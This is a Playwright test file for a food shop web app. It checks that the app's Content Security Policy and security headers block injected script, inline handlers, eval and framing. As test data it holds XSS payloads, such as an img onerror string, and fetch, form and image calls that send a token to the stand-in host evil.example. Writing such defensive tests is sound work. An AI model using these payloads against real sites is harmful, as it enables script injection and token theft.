import { startMockServer } from '@my-food/mocks/server';
import { expect, test as base, type Page } from '@playwright/test';
import { createHash } from 'node:crypto';
import { readdirSync, readFileSync } from 'node:fs';
import { contentSecurityPolicy, responseHeaders } from '../../../build/content-security.ts';
import { builds, folderOf, headersOf, type BuildName } from '../../build.ts';
import { hostedTest } from '../../shop.ts';

const pageOf = (build: BuildName) => readFileSync(`${folderOf(build)}index.html`, 'utf8');
const metaPolicy = (page: string) =>
  /<meta http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(page)?.[1]?.replaceAll('&#39;', "'") ?? '';
const digests = (page: string, element: RegExp) =>
  [...page.matchAll(element)].map(([, text]) =>
    createHash('sha256')
      .update(text ?? '')
      .digest('base64'),
  );

for (const build of ['shop', 'crossOrigin', 'demo'] as const) {
  base(`policy: module, page and headers of the ${build} build agree, and nothing is inline but what they list`, () => {
    const page = pageOf(build);
    const policy = contentSecurityPolicy({
      origins: build === 'crossOrigin' ? [builds.crossOrigin.apiUrl] : [],
      reportOrigins: build === 'crossOrigin' ? [builds.crossOrigin.reportsTo] : [],
      hasMockBackend: build === 'demo',
      inline: { scripts: digests(page, /<script>(.*?)<\/script>/gs), styles: digests(page, /<style>(.*?)<\/style>/gs) },
    });
    expect(metaPolicy(page)).toBe(policy);
    expect(headersOf(build)).toEqual(responseHeaders(policy));
    // The policy precedes everything that it applies to.
    expect(page.indexOf('<meta http-equiv')).toBeLessThan(page.search(/<(script|link|style)/));
    const markup = page.replaceAll(/<(script|style)>.*?<\/\1>/gs, '');
    expect(markup.match(/<script(?![^>]*\ssrc=)|<style|\sstyle=|\son\w+=|javascript:/g)).toBeNull();
    const scripts = readdirSync(`${folderOf(build)}assets`).filter((file) => file.endsWith('.js'));
    const writesCode = /document\.write\(|[^.\w]eval\(/;
    expect(scripts.filter((file) => writesCode.test(readFileSync(`${folderOf(build)}assets/${file}`, 'utf8')))).toEqual([]);
  });
}

hostedTest('policy: the headers of a host are the ones that are sent', async ({ page, shop }) => {
  const sent = await (await page.goto(shop.server.url))?.allHeaders();
  const promised = Object.entries(headersOf('shop')).map(([name, value]) => [name.toLowerCase(), value]);
  expect(promised.map(([name]) => name)).toContain('x-content-type-options');
  expect(promised.filter(([name, value]) => sent?.[name ?? ''] !== value)).toEqual([]);
});

/** Attacks by injected script. */
const attempts: Readonly<Record<string, () => unknown>> = {
  'a string of HTML': () => void (document.body.innerHTML = '<img src=x onerror=__pwned=1>'),
  // Asynchronous, because code that Playwright evaluates is exempt.
  'an evaluated string': () => void setTimeout(() => new Function('window.__pwned = 1')()),
  'an inline script': () => {
    const script = document.createElement('script');
    script.append('window.__pwned = 1');
    document.body.append(script);
  },
  'an inline handler': () => {
    const image = document.createElement('img');
    image.setAttribute('onerror', 'window.__pwned = 1');
    image.setAttribute('src', 'none');
    document.body.append(image);
  },
  'a foreign script': () => {
    const script = document.createElement('script');
    script.setAttribute('src', 'https://evil.example/x.js');
    document.body.append(script);
  },
  'a policy of its own': () => Reflect.get(window, 'trustedTypes')?.createPolicy('evil', { createScriptURL: (address: string) => address }),
  'a policy in the name of ours, before ours is used': () =>
    Reflect.get(window, 'trustedTypes')?.createPolicy('my-food', { createScriptURL: (address: string) => address }),
  'a form to another origin': () => {
    const form = document.createElement('form');
    form.action = 'https://evil.example/';
    document.body.append(form);
    form.submit();
  },
  'a call to another origin': () => fetch('https://evil.example/?token=x'),
  'a picture of another origin': () => {
    const image = document.createElement('img');
    image.setAttribute('src', 'https://evil.example/?token=x');
    document.body.append(image);
  },
};

// Not the shop's fixtures, in which a violation fails the test.
base('policy: the meta tag alone blocks attacks by injected script', async ({ page }) => {
  const server = await startMockServer({ scenario: 'fourDishes', staticRoot: folderOf('shop') });
  await page.goto(`${server.url}/#/login/`);
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  for (const [name, attempt] of Object.entries(attempts)) {
    await base.step(name, async () => {
      await page.evaluate(() => {
        const directives: string[] = [];
        Object.assign(window, { directives });
        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => directives.push(effectiveDirective), {
          once: true,
        });
      });
      await page.evaluate(attempt).catch(() => undefined);
      await expect.poll(() => page.evaluate(() => Reflect.get(window, 'directives')), name).toHaveLength(1);
    });
  }
  expect(await page.evaluate(() => '__pwned' in window)).toBe(false);
  expect(new URL(page.url()).origin).toBe(server.url);
  await server.close();
});

/** Where the frame of a page of another origin ends, if the shop's host sends these headers. What the shop renders there: pages/first-view.spec.ts. */
async function findFramedUrl(page: Page, headers: Record<string, string>) {
  const server = await startMockServer({ scenario: 'fourDishes', staticRoot: folderOf('shop'), headers });
  const framing = await startMockServer();
  // Served, not fulfilled: Chromium keeps a page whose response is intercepted away from loopback addresses.
  const text = `<iframe src="${server.url}/"></iframe>`;
  framing.program({ method: 'GET', path: '/api/food/', reply: { status: 200, text, contentType: 'text/html' } });
  await page.goto(`${framing.url.replace('127.0.0.1', 'localhost')}/api/food/`);
  const url = page.frames()[1]?.url().replace(server.url, 'shop');
  await server.close();
  await framing.close();
  return url;
}

base('policy: the headers of the build keep the shop out of the frames of other pages', async ({ page }) => {
  expect(await findFramedUrl(page, {})).toBe('shop/');
  expect(await findFramedUrl(page, headersOf('shop'))).toBe('chrome-error://chromewebdata/');
});
